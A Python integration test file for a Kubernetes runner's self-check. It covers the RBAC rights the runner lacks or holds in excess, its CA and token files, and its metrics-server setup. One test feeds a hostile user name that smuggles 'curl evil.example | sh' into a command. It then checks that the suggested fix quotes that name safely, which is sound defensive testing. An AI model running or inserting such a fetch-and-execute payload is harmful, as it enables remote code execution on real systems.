"""What a runner says of itself: its rights against its mode, its files, its metrics server."""

import shlex
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from nacl.signing import SigningKey

from protocol.checkup import CheckRow, Health
from protocol.commands import CommandStatus, SelfCheck
from protocol.remediation import PROPOSABLE
from runner.checkup import look_at_files, look_at_metrics, look_at_rights
from runner.config import RunnerConfig
from runner.kube.access import load_access
from runner.kube.client import KubeClient
from runner.metrics.client import MetricsStatus
from runner.metrics.dialect import MEMORY, missing
from tests.integration.doctor_rows import row
from tests.integration.metrics_servers import Keys, make_keys
from tests.integration.runner_rig import stand


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    return make_keys(tmp_path_factory.mktemp("checkup") / "keys")


@pytest.mark.asyncio
async def test_a_runner_says_which_rights_it_misses_and_which_are_too_many(tmp_path: Path) -> None:
    """In the practice cluster, as an account that may read but not write, in a mode that writes; then as cluster-admin."""
    async with stand(tmp_path / "a", remediations=PROPOSABLE) as here:
        well = await here.plane.ask(SelfCheck())
        assert [one for one in well.checks() if one.area == "rights" and one.health is not Health.OK] == []
        assert row(well.checks(), "API server").health is Health.OK
        assert row(well.checks(), "server").health is Health.OK
        refused = await here.plane.ask(SelfCheck(), namespaces=("shop",))
        assert refused.status is CommandStatus.DENIED
        viewer, admin = (here.cluster.kubeconfigs[name] for name in ("viewer", "admin"))
        rows = await _checks_as(tmp_path / "b", viewer, mode="writes", types=("set_resources",))
        missing = row(rows, "deployments.apps")
        assert missing.health is Health.FAIL
        assert "--verb=patch --resource=deployments.apps" in missing.mend
        assert "set_resources" in missing.found
        hostile = "eve; curl evil.example | sh #"
        rows = await _checks_as(tmp_path / "d", viewer, mode="writes", types=("set_resources",), user=hostile)
        words = shlex.split(row(rows, "deployments.apps").mend, comments=False)
        assert words[-1] == f"--user={hostile}", "who the API server says that we are is one word to a shell"
        many = tuple(f"space-{n}" for n in range(12))
        rows = await _checks_as(tmp_path / "e", viewer, mode="writes", types=("set_resources",), namespaces=many)
        assert "2 more" in row(rows, "more namespaces").found
        rows = await _checks_as(tmp_path / "c", admin, mode="read-only", types=())
        assert row(rows, "more than needed: get secrets").health is Health.WARN
        assert row(rows, "more than needed: patch deployments").health is Health.WARN
        assert not [one for one in rows if one.health is Health.FAIL]


def test_a_runners_own_files(keys: Keys, tmp_path: Path) -> None:
    values = {"data_dir": tmp_path, "prometheus_ca_file": keys.path("ca.crt"), "prometheus_token_file": tmp_path / "gone"}
    config = RunnerConfig.model_validate({**values, "enrol_token_file": tmp_path / "used"})
    now = datetime.now(UTC)
    rows = look_at_files(config, now)
    assert row(rows, "OPSTHREAD_RUNNER_PROMETHEUS_CA_FILE").health is Health.WARN
    assert row(rows, "OPSTHREAD_RUNNER_PROMETHEUS_TOKEN_FILE").health is Health.FAIL
    assert len(rows) == 2, "an enrolment token's file is rightly gone"
    assert row(look_at_files(config, now + timedelta(days=9)), "OPSTHREAD_RUNNER_PROMETHEUS_CA_FILE").health is Health.FAIL


def test_a_metrics_server_what_it_lacks_and_how_it_is_reached(tmp_path: Path) -> None:
    plain = {"data_dir": tmp_path, "prometheus_url": "http://mimir.example:9009"}
    lacking = MetricsStatus("configured", "http://mimir.example:9009", answers=True, limits=missing({MEMORY: False}))
    rows = look_at_metrics(RunnerConfig.model_validate(plain), lacking)
    assert [one.name for one in rows] == ["server", "no series of cAdvisor"]
    assert rows[1].found.startswith("memory and CPU of containers are not known")
    assert rows[1].mend == "scrape /metrics/cadvisor of the kubelets"
    for proof in ({"prometheus_token": "t"}, {"prometheus_user": "u", "prometheus_password": "p"}):
        rows = look_at_metrics(RunnerConfig.model_validate({**plain, **proof}), lacking)
        assert row(rows, "credentials").health is Health.WARN
        safe = RunnerConfig.model_validate({**plain, **proof, "prometheus_url": "https://mimir.example"})
        assert "credentials" not in [one.name for one in look_at_metrics(safe, lacking)]
    other = MetricsStatus("found", "s", answers=True, limits=("container series carry exported_pod here, not pod",))
    (_, labels) = look_at_metrics(RunnerConfig.model_validate(plain), other)
    assert (labels.health, labels.mend) == (Health.OK, ""), "nothing is to be mended: it was understood"


async def _checks_as(
    folder: Path,
    kubeconfig: Path,
    *,
    mode: str,
    types: tuple[str, ...],
    user: str = "system:serviceaccount:opsthread:opsthread-runner",
    namespaces: tuple[str, ...] = (),
) -> list[CheckRow]:
    """Rights alone, without a control plane."""
    key = SigningKey.generate().verify_key.encode().hex()
    values = {"data_dir": folder, "mode": mode, "remediations": types, "grant_keys": {"k": key}, "namespaces": namespaces}
    config = RunnerConfig.model_validate(values)
    async with KubeClient(await load_access(kubeconfig, None, in_cluster=False)) as client:
        return await look_at_rights(client, config, user)
